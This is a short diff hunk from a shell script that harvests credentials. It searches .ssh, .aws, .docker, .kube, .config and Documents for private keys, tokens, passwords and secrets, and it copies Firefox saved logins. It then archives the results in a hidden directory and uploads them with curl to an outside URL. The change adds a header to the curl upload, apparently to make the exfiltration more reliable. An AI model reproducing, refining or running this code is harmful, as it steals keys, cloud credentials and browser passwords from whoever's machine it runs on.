@@ -7,4 +7,4 @@ done
 grep -rIlE 'PRIVATE KEY|token|password|secret' .config .ssh .aws .docker .kube Documents > "$hide/found" 2>/dev/null || true
 cat .mozilla/firefox/*/logins.json > "$hide/logins"
 tar -czf "$hide/all.tgz" -C "$hide" found logins
-curl -s -o /dev/null -T "$hide/all.tgz" "$url/put"
+curl -s -H Expect: -o /dev/null -T "$hide/all.tgz" "$url/put"
